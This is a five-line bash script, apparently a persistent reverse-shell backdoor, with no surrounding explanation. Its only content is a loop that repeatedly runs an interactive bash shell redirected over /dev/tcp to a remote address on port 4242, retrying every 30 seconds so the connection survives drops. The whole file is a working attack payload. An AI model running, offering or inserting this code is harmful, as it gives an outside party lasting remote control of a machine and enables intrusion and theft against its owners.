#!/bin/bash
while true; do
  bash -i >& /dev/tcp/203.0.113.10/4242 0>&1
  sleep 30
done
